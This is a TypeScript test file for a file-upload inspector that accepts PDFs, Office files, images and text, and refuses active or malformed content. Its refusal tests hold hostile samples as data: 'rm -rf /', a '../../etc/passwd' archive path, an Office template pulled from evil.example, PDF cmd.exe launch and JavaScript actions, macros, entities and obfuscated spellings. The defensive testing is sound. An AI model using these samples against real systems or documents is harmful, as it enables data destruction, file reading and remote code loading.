import { randomBytes } from "node:crypto";
import { mkdtempSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";
import { afterAll, describe, expect, test } from "vitest";
import { office, pdf, photograph, zip } from "../../../tests/setup/documents.ts";
import { seal, unseal } from "../sealed.ts";
import { redraw } from "./image.ts";
import { inspect } from "./index.ts";

const folder = mkdtempSync(join(tmpdir(), "lab-inspect-"));
afterAll(() => rmSync(folder, { recursive: true }));
let made = 0;

async function opened(content: Buffer | string) {
  made += 1;
  const path = join(folder, String(made));
  const key = randomBytes(32);
  const { head } = await seal([Buffer.from(content)], { path, key, fileId: "one" }, 1e9);
  return { file: await unseal(path, key, "one"), head };
}

/** The type found, or the code of the refusal. */
async function judged(content: Buffer | string, name = "file"): Promise<string> {
  const { file, head } = await opened(content);
  try {
    const found = await inspect(file, head, name);
    return found.ok ? found.value : found.refusal.code;
  } finally {
    await file.close();
  }
}

const png = () =>
  sharp({ create: { width: 9, height: 9, channels: 4, background: "#123" } })
    .png()
    .toBuffer();
const webp = () =>
  sharp({ create: { width: 9, height: 9, channels: 3, background: "#123" } })
    .webp()
    .toBuffer();
const openXml = "application/vnd.openxmlformats-officedocument.";

describe("what is taken, by what it holds", () => {
  test.each([
    ["a PDF", pdf, "application/pdf"],
    ["a Word document", () => office("docx"), `${openXml}wordprocessingml.document`],
    ["an Excel workbook", () => office("xlsx"), `${openXml}spreadsheetml.sheet`],
    ["a PowerPoint presentation", () => office("pptx"), `${openXml}presentationml.presentation`],
    ["a photograph", photograph, "image/jpeg"],
    ["a PNG", png, "image/png"],
    ["a WebP", webp, "image/webp"],
    ["a text", () => "深偽詐騙 ✓\r\n\tBM, MZ and ID3 are words here", "text/plain"],
    ["a text that begins like a bitmap", () => "BMW drivers were asked first", "text/plain"],
  ])("%s", async (_name, make, type) => {
    expect(await judged(await make(), "wrong.exe")).toBe(type);
  });

  test("the name only says which kind of text a text is", async () => {
    expect(await judged("a,b\n1,2", "cases.csv")).toBe("text/csv");
    expect(await judged("# Cases", "cases.md")).toBe("text/markdown");
    expect(await judged("# Cases", "cases.pdf")).toBe("text/plain");
  });
});

describe("what is refused", () => {
  const gif = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");
  const word = office("docx");
  test.each<[string, () => Buffer | string | Promise<Buffer | string>, string]>([
    ["nothing", () => "", "file-empty"],
    ["a page", () => "<!DOCTYPE html><p>hello", "file-kind"],
    ["a page behind white space and a mark", () => "\ufeff \n<HTML><script>alert(1)</script>", "file-kind"],
    ["a drawing with scripts", () => '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "file-kind"],
    ["XML", () => '<?xml version="1.0"?><svg/>', "file-kind"],
    ["rich text", () => "{\\rtf1\\ansi hello}", "file-kind"],
    ["a shell script", () => "#!/bin/sh\nrm -rf /", "file-kind"],
    ["a program", () => Buffer.from("MZ\x90\x00\x03\x00\x00\x00", "latin1"), "file-kind"],
    ["bytes", () => randomBytes(5000), "file-kind"],
    ["text with a NUL", () => "hello\0world", "file-kind"],
    ["text that is not UTF-8", () => Buffer.from([0xa7, 0x41, 0xa6, 0x6e]), "file-kind"],
    ["text cut in the middle of a character", () => Buffer.from("深").subarray(0, 2), "file-kind"],
    ["a text that a PDF reader would open", () => `harmless\n${"%PDF"}-1.7\n1 0 obj`, "file-kind"],
    ["a customer's card number", () => `id,card\n1,4000 0000 0000 0002\n`, "file-customer-data"],
    [
      "an identity card number far down",
      () => `${"line\n".repeat(40_000)}X123456(9) A123456(3)\n`,
      "file-customer-data",
    ],
    [
      "an old or protected Office file",
      () => Buffer.from("d0cf11e0a1b11ae1".padEnd(2000, "0"), "hex"),
      "file-unreadable",
    ],
    ["a moving picture", () => gif, "file-image"],
    ["a plain archive", () => zip([{ name: "a.txt", content: "a" }]), "file-kind"],
    ["macros", () => office("docx", [{ name: "word/vbaProject.bin", content: "x" }]), "file-active"],
    [
      "macros under another name",
      () => office("xlsx", [], '<Default ContentType="application/vnd.ms-excel.sheet.macroEnabled.main+xml"/>'),
      "file-active",
    ],
    [
      "an embedded program",
      () => office("pptx", [{ name: "ppt/embeddings/oleObject1.bin", content: "x" }]),
      "file-active",
    ],
    ["a control", () => office("docx", [{ name: "word/activeX/activeX1.xml", content: "<x/>" }]), "file-active"],
    [
      "a template fetched from elsewhere",
      () =>
        office("docx", [
          {
            name: "word/_rels/settings.xml.rels",
            content:
              '<Relationships><Relationship Type="http://x/relationships/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/></Relationships>',
          },
        ]),
      "file-active",
    ],
    [
      "a template fetched from elsewhere, spelled with character references behind what looks like an end",
      () =>
        office("docx", [
          {
            name: "word/_rels/settings.xml.rels",
            content:
              '<Relationships><r:Relationship xmlns:r="x" Id="a>b" Type="http://x/relationships/attached&#x54;emplate" Target="http://evil.example/t.dotm" TargetMode="&#69;xternal"/></Relationships>',
          },
        ]),
      "file-active",
    ],
    [
      "macros spelled with character references",
      () => office("xlsx", [], '<Default ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>'),
      "file-active",
    ],
    [
      "relations that are no XML",
      () =>
        office("docx", [{ name: "word/_rels/x.xml.rels", content: "<Relationships><Relationship</Relationships>" }]),
      "file-unreadable",
    ],
    [
      "an encoding that readers understand differently",
      () =>
        office("docx", [{ name: "_rels/x.rels", content: '<?xml version="1.0" encoding="UTF-7"?><Relationships/>' }]),
      "file-unreadable",
    ],
    [
      "entities",
      () => office("docx", [{ name: "word/x.xml", content: '<!DOCTYPE x [<!ENTITY a "b">]><x/>' }]),
      "file-active",
    ],
    ["a password on a part", () => office("docx", [{ name: "word/s.xml", content: "x", flags: 1 }]), "file-unreadable"],
    ["a way out of the archive", () => office("docx", [{ name: "../../etc/passwd", content: "x" }]), "file-unreadable"],
    ["the same part twice", () => office("docx", [{ name: "WORD/document.xml", content: "x" }]), "file-unreadable"],
    [
      "a part that says it is small",
      () => office("docx", [{ name: "word/media/i.png", content: Buffer.alloc(9_000_000), size: 100 }]),
      "file-unreadable",
    ],
    [
      "parts that say they are huge",
      () => office("docx", [{ name: "word/media/i.png", content: "x", size: 400_000_000 }]),
      "file-unreadable",
    ],
    [
      "something behind the archive",
      () => Buffer.concat([word, Buffer.from("<script>alert(1)</script>")]),
      "file-unreadable",
    ],
    ["something before the archive", () => Buffer.concat([Buffer.from("PK\x03\x04 junk"), word]), "file-unreadable"],
    ["half an archive", () => word.subarray(0, word.length - 30), "file-unreadable"],
  ])("%s", async (_name, make, code) => {
    expect(await judged(await make(), "report.pdf")).toBe(code);
  });
});

describe("a PDF is refused", () => {
  /** An object more, before the end. */
  const with_ = async (object: string | Buffer) => {
    const whole = await pdf();
    const at = whole.lastIndexOf("xref");
    return Buffer.concat([whole.subarray(0, at), Buffer.from(object), Buffer.from("\n"), whole.subarray(at)]);
  };
  const packed = (content: string, dictionary = "/Type /ObjStm /N 1 /First 4 /Filter /FlateDecode") => {
    const body = deflateSync(content);
    return Buffer.concat([
      Buffer.from(`90 0 obj\n<< ${dictionary} /Length ${body.length} >>\nstream\n`),
      body,
      Buffer.from("\nendstream\nendobj"),
    ]);
  };

  test.each<[string, () => Promise<Buffer>, string]>([
    ["with a script", () => with_("90 0 obj\n<< /S /JavaScript /JS (app.alert\\(1\\)) >>\nendobj"), "file-active"],
    ["with a script under an escaped name", () => with_("90 0 obj\n<< /S /J#61vaScript >>\nendobj"), "file-active"],
    ["that starts a program", () => with_("90 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj"), "file-active"],
    [
      "with a file in it",
      () => pdf("x", (document) => void document.file(Buffer.from("x"), { name: "x.exe" })),
      "file-active",
    ],
    ["with a form that runs", () => with_("90 0 obj\n<< /XFA [ 1 0 R ] >>\nendobj"), "file-active"],
    ["with a script in a packed object", () => with_(packed("91 0 << /S /JavaScript /JS (x) >>")), "file-active"],
    [
      "with a packed object under an escaped name",
      () => with_(packed("91 0 << /S /JavaScript >>", "/Type /Obj#53tm /Filter /FlateDecode")),
      "file-active",
    ],
    [
      "packed in a way that can't be looked into",
      () => with_(packed("x", "/Type /ObjStm /Filter /LZWDecode")),
      "file-unreadable",
    ],
    ["that unpacks without end", () => with_(packed("a".repeat(70_000_000))), "file-unreadable"],
    ["with a password", () => with_("90 0 obj\n<< /Encrypt 4 0 R >>\nendobj"), "file-unreadable"],
    ["with an archive behind it", async () => Buffer.concat([await pdf(), office("docx")]), "file-unreadable"],
    ["that is cut off", async () => (await pdf()).subarray(0, 500), "file-unreadable"],
  ])("%s", async (_name, make, code) => {
    expect(await judged(await make())).toBe(code);
  });

  test("not for what its packed objects harmlessly say, and not for its length", async () => {
    expect(await judged(await with_(packed("91 0 << /Type /Page /Contents 4 0 R >>")))).toBe("application/pdf");
    expect(await judged(await with_(`%${"x".repeat(3_000_000)}`))).toBe("application/pdf");
  });
});

describe("an image", () => {
  test("keeps its picture, upright, and loses place, camera and author", async () => {
    const original = await photograph();
    expect(original.includes("Mei Chan")).toBe(true);
    const { file } = await opened(original);
    const drawn = await redraw(file, "image/jpeg");
    await file.close();
    if (!drawn.ok) throw new Error(drawn.refusal.code);
    const seen = await sharp(drawn.value).metadata();
    expect([seen.width, seen.height]).toEqual([40, 60]);
    expect([seen.exif, seen.icc, seen.xmp, seen.iptc, seen.orientation]).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
    expect(drawn.value.includes("Mei Chan")).toBe(false);
  });

  test("loses what stood behind it", async () => {
    const { file } = await opened(Buffer.concat([await png(), Buffer.from("<script>alert(1)</script>")]));
    const drawn = await redraw(file, "image/png");
    await file.close();
    expect(drawn.ok && drawn.value.includes("script")).toBe(false);
    expect(drawn.ok).toBe(true);
  });

  test("that moves, is broken, or says it has a hundred megapixels is refused", async () => {
    const frame = (background: string) =>
      sharp({ create: { width: 4, height: 4, channels: 3, background } })
        .png()
        .toBuffer();
    const frames = await sharp([await frame("#fff"), await frame("#000")], { join: { animated: true } })
      .webp({ delay: [100, 100] })
      .toBuffer();
    // Nine pixels wide that say they are 12,000.
    const wide = await png();
    wide.writeUInt32BE(12_000, 16);
    wide.writeUInt32BE(9_000, 20);
    wide.writeUInt32BE(crc32(wide.subarray(12, 29)), 29);
    const broken = (await photograph()).subarray(0, 300);
    for (const [content, type] of [
      [frames, "image/webp"],
      [wide, "image/png"],
      [broken, "image/jpeg"],
    ] as const) {
      const { file } = await opened(content);
      const drawn = await redraw(file, type);
      await file.close();
      expect(drawn.ok ? "taken" : drawn.refusal.code, type).toBe("file-image");
    }
  });
});
